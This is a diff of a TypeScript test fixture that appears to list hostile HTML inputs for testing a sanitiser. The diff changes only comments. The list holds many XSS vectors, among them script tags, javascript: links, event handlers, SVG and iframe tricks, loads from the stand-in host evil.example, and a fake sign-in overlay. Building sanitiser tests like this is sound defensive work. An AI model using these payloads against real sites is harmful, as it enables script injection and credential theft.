@@ -3,7 +3,7 @@
  * the site for evil.example, or takes over a part of the page where a sanitiser lets it.
  */
 export const hostileHtml: readonly string[] = [
-  // Scripts, in all the ways to write one.
+  // Scripts, in every way to write one.
   `<script>pwned()</script>`,
   `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
   `<script/src="data:text/javascript,pwned()"></script>`,
@@ -61,7 +61,7 @@ export const hostileHtml: readonly string[] = [
   `<custom-element onclick=pwned()>x</custom-element>`,
   `<p is="x-pwned" onclick=pwned()>x</p>`,
 
-  // Addresses that run or leave.
+  // Addresses that run script or leave the site.
   `<a href="javascript:pwned()">link</a>`,
   `<a href="JaVaScRiPt:pwned()">link</a>`,
   `<a href=" javascript:pwned()">link</a>`,
@@ -97,7 +97,7 @@ export const hostileHtml: readonly string[] = [
   `<img lowsrc="javascript:pwned()" dynsrc="javascript:pwned()" src="/a.png">`,
   `<img src="/a.png" usemap="#m"><map name="m"><area href="javascript:pwned()" shape="default"></map>`,
 
-  // Frames, plug-ins, documents within the document.
+  // Frames, plug-ins, and documents inside the document.
   `<iframe src="javascript:pwned()"></iframe>`,
   `<iframe srcdoc="<script>pwned()</script>"></iframe>`,
   `<iframe src="https://evil.example" class="ql-video"></iframe>`,
@@ -113,7 +113,7 @@ export const hostileHtml: readonly string[] = [
   `<link rel="stylesheet" href="https://evil.example/x.css">`,
   `<link rel="import" href="https://evil.example/x.html">`,
 
-  // Styles and classes that cover the page or call out.
+  // Styles and classes that cover the page or send requests.
   `<style>@import "https://evil.example/x.css";</style>`,
   `<style>*{background:url("https://evil.example/?")}</style>`,
   `<p style="position:fixed;inset:0;z-index:9999;background:#fff">Please sign in again</p>`,
@@ -123,7 +123,7 @@ export const hostileHtml: readonly string[] = [
   `<p class="ql-indent-1 fixed ql-indent-9 inset-0">text</p>`,
   `<table background="https://evil.example/p.png"><tr><td background="https://evil.example/p.png">x</td></tr></table>`,
 
-  // Other namespaces and mutations that come alive when HTML is parsed again.
+  // Other namespaces, and mutations that only run when HTML is parsed again.
   `<svg onload=pwned()>`,
   `<svg><script>pwned()</script></svg>`,
   `<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>`,
